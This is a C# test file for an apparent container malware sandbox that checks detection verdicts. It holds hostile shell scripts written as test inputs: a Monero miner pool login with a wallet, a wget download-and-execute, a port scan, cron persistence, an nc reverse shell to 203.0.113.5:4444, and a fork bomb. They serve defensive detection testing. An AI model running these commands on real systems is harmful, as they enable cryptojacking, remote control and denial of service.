using Drydock.Analysis.Content;
using Drydock.Assessment;
using Drydock.Detection.Malware;
using Drydock.Sandbox;
using Drydock.Sandbox.Behaviour;
using Drydock.Sandbox.Runtime;
using Drydock.Sources;
using Drydock.Tests.Support;

namespace Drydock.Tests.Sandbox;

/// <summary>The behaviour images, built from Debian's static busybox and small scripts, run in the full
/// sandbox (runc, strace, the sink network) and judged.</summary>
[Collection(SandboxCollection.Name)]
[System.Runtime.Versioning.SupportedOSPlatform("linux")]
public sealed class SandboxBehaviourTests
{
    private const string Wallet = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD";

    private static async Task<BehaviourReport> RunAsync(InMemoryImage image, SandboxOptions? options = null)
    {
        var assessment = new SandboxAssessment(new ImageOpener([image]));
        return await assessment.RunAsync(image.Reference, new SourceOptions(), options ?? new SandboxOptions { Timeout = TimeSpan.FromSeconds(30) }, CancellationToken.None);
    }

    [RuncFact]
    public async Task A_miner_that_resolves_a_pool_and_logs_in_shows_the_domain_port_and_wallet()
    {
        var behaviour = await RunAsync(SandboxImages.Script($$$"""
            addr=$(nslookup pool.supportxmr.com 2>/dev/null | awk '/^Address/ { a = $NF } END { print a }')
            echo "pool at $addr"
            printf '%s\n' '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"{{{Wallet}}}","pass":"x","agent":"XMRig/6.21.0"}}' | nc -w 3 "$addr" 3333
            """));

        Assert.Equal(VerdictKind.Malicious, behaviour.Verdict);
        var network = behaviour.NetworkActivity!;
        Assert.Contains(network.DnsQueries, q => q.Name == "pool.supportxmr.com" && q.Type == "A");
        var login = Assert.Single(network.StratumLogins, l => l.Method == "login");
        Assert.Equal((3333, Wallet, "XMRig/6.21.0"), (login.Port, login.Login, login.Agent));
        var stratum = Assert.Single(behaviour.Reasons, r => r.RuleId == "sandbox/stratum-login");
        Assert.Equal(ThreatCategory.CoinMiner, stratum.Category);
        Assert.Contains(new FindingEvidence("wallet", Wallet), stratum.Evidence);
        Assert.Contains(new FindingEvidence("domain", "pool.supportxmr.com"), stratum.Evidence);
        Assert.Contains(stratum.Evidence, e => e.Kind == "pool" && e.Value.EndsWith(":3333", StringComparison.Ordinal));
        Assert.Contains(behaviour.Reasons, r => r.RuleId == "sandbox/pool-domain");
        Assert.Contains(behaviour.Processes, p => p.Applet == "nc" && p.Argv.Contains("3333"));
    }

    [RuncFact]
    public async Task A_downloader_fetches_a_script_and_runs_it()
    {
        var payload = Path.Join(Path.GetTempPath(), $"drydock-payload-{Guid.NewGuid():N}.sh");
        await File.WriteAllTextAsync(payload, "#!/bin/sh\necho payload-ran\n");
        try
        {
            var behaviour = await RunAsync(SandboxImages.Script("""
                wget -q -O /tmp/update.sh http://198.51.100.80/update.sh
                chmod +x /tmp/update.sh
                /tmp/update.sh
                """), new SandboxOptions { HttpFiles = new Dictionary<string, string> { ["/update.sh"] = payload } });

            Assert.Contains("payload-ran", behaviour.Stdout);
            var reason = Assert.Single(behaviour.Reasons, r => r.Category == ThreatCategory.Downloader);
            Assert.Equal(Confidence.High, reason.Confidence);
            var hash = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(await File.ReadAllBytesAsync(payload)));
            Assert.Contains(new FindingEvidence("file", "/tmp/update.sh"), reason.Evidence);
            Assert.Contains(new FindingEvidence("sha256", hash), reason.Evidence);
            Assert.Contains(new FindingEvidence("url", "http://198.51.100.80/update.sh"), reason.Evidence);
            var file = Assert.Single(behaviour.Files, f => f.Path == "/tmp/update.sh");
            Assert.True(file.MadeExecutable);
            Assert.Equal(hash, file.Sha256);
            Assert.Equal(VerdictKind.Malicious, behaviour.Verdict);
            Assert.Contains(behaviour.NetworkActivity!.HttpRequests, h => h.Path == "/update.sh" && h.Status == 200 && h.UserAgent == "Wget");
        }
        finally
        {
            File.Delete(payload);
        }
    }

    [RuncFact]
    public async Task Connecting_to_fifty_addresses_is_a_scanner()
    {
        var behaviour = await RunAsync(SandboxImages.Script("""
            for i in $(seq 1 50); do nc -w 1 192.0.2.$i 22 </dev/null >/dev/null 2>&1; done
            """));
        var reason = Assert.Single(behaviour.Reasons, r => r.Category == ThreatCategory.NetworkScanner);
        Assert.Contains(new FindingEvidence("destination", "192.0.2.1:22"), reason.Evidence);
        var connections = behaviour.NetworkActivity!.Connections;
        Assert.Equal(50, connections.Where(c => c.Protocol == "tcp" && c.Port == 22).Select(c => c.Address).Distinct().Count());
        Assert.All(connections.Where(c => c.Protocol == "tcp"), c => Assert.StartsWith("192.0.2.", c.Address));
        Assert.Equal(VerdictKind.Suspicious, behaviour.Verdict);
    }

    [RuncFact]
    public async Task Writing_a_crontab_is_persistence()
    {
        var behaviour = await RunAsync(SandboxImages.Script("""
            mkdir -p /etc/cron.d
            echo '* * * * * root /tmp/.x/run' > /etc/cron.d/sync
            """));
        var reason = Assert.Single(behaviour.Reasons, r => r.Category == ThreatCategory.Persistence);
        Assert.Contains(new FindingEvidence("file", "/etc/cron.d/sync"), reason.Evidence);
        Assert.Contains(behaviour.Files, f => f.Path == "/etc/cron.d/sync" && f.Kind == Drydock.Sandbox.Files.FileChangeKind.Created);
        Assert.Equal(VerdictKind.Suspicious, behaviour.Verdict);
    }

    [RuncFact]
    public async Task A_shell_on_a_socket_is_a_reverse_shell()
    {
        var behaviour = await RunAsync(SandboxImages.Script("nc 203.0.113.5 4444 -e /bin/sh"), new SandboxOptions { Timeout = TimeSpan.FromSeconds(15) });
        var reason = Assert.Single(behaviour.Reasons, r => r.Category == ThreatCategory.ReverseShell);
        Assert.Contains(reason.Evidence, e => e.Kind == "destination" && e.Value == "203.0.113.5:4444");
        Assert.Equal(VerdictKind.Malicious, behaviour.Verdict);
    }

    [RuncFact]
    public async Task A_fork_bomb_is_reported_and_killed()
    {
        var behaviour = await RunAsync(SandboxImages.Script("(bomb() { bomb | bomb & }; bomb); exec sleep 100"),
            // A low limit, reached quickly even when traced forks crawl on a loaded machine.
            new SandboxOptions { Timeout = TimeSpan.FromSeconds(10), Limits = new Drydock.Sandbox.Bundle.ResourceLimits(256L << 20, 24, 1) });
        Assert.True(behaviour.TimedOut);
        Assert.True(behaviour.Resources.PidsLimitHits > 0);
        Assert.Contains(behaviour.Warnings, w => w.Code == "sandbox-pids-limit");
        Assert.True(behaviour.Processes.Count > 10);
    }

    [RuncFact]
    public async Task A_process_that_sleeps_past_the_timeout_is_killed_and_reported()
    {
        var behaviour = await RunAsync(SandboxImages.Script("sleep 120"), new SandboxOptions { Timeout = TimeSpan.FromSeconds(2) });
        Assert.True(behaviour.TimedOut);
        Assert.Contains(behaviour.Processes, p => p.Applet == "sleep" && p.Signal == "SIGKILL");
        Assert.Equal(VerdictKind.Clean, behaviour.Verdict);
    }

    [RuncFact]
    public async Task An_ordinary_image_is_nothing_suspicious_and_runs_the_same_twice()
    {
        var image = SandboxImages.Script("""
            echo hello
            ls / >/dev/null
            echo note > /tmp/note.txt
            """);
        var first = await RunAsync(image);
        var second = await RunAsync(image);
        Assert.Equal(VerdictKind.Clean, first.Verdict);
        Assert.Empty(first.Reasons);
        Assert.Equal(0, first.ExitCode);
        Assert.Equal(Shape(first), Shape(second));
        Assert.DoesNotContain(first.FileOperations, o => o.Path.StartsWith("/proc/self/fd", StringComparison.Ordinal));
        Assert.Contains(first.FileOperations, o => o.Path == "/tmp/note.txt");
    }

    [RuncFact]
    public async Task Files_the_run_writes_go_through_the_malware_scanners()
    {
        // The run's own namespaces are watched: other runs (a CI on the same machine) may have theirs meanwhile.
        var created = new List<string>();
        var image = SandboxImages.Script($"""
            printf '#!/bin/sh\n./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u {Wallet} -a rx/0 --donate-level 1\n' > /tmp/start.sh
            chmod +x /tmp/start.sh
            """);
        var assessment = new SandboxAssessment(new ImageOpener([image]), async (options, id, ct) =>
        {
            var network = await SinkSandboxNetwork.CreateAsync(options, id, ct);
            var sink = ((SinkSandboxNetwork)network).Sink;
            created.AddRange([sink.SinkNamespaceName, sink.ContainerNamespaceName]);
            return network;
        });
        var behaviour = await assessment.RunAsync(image.Reference, new SourceOptions(), new SandboxOptions { Timeout = TimeSpan.FromSeconds(30) }, CancellationToken.None);
        var finding = Assert.Single(behaviour.DroppedFileFindings, f => f.Category == ThreatCategory.CoinMiner);
        Assert.Equal(("sandbox-file", "/tmp/start.sh"), (finding.Source, finding.Path));
        Assert.Equal(VerdictKind.Malicious, behaviour.Verdict);
        Assert.Equal(2, created.Count);
        var netns = await Network.NetnsTool.ListAsync();
        Assert.Empty(netns.Intersect(created));
    }

    // Everything but times and resource counters.
    private static string Shape(BehaviourReport r) => string.Join('\n',
    [
        r.Verdict.ToString(), r.Stdout, r.ExitCode?.ToString() ?? "",
        .. r.Processes.Select(p => $"{p.Id} {p.ParentId} {p.Executable} {p.Applet} {string.Join(' ', p.Argv)} {p.ExitCode} {p.Signal}"),
        .. r.Files.Select(f => $"{f.Path} {f.Kind} {f.Size} {f.Sha256}"),
        .. r.Reasons.Select(x => $"{x.RuleId} {string.Join(',', x.Evidence)}"),
        .. r.FileOperations.Select(o => $"{o.ProcessId} {o.Kind} {o.Path} {o.Target}"),
    ]);
}
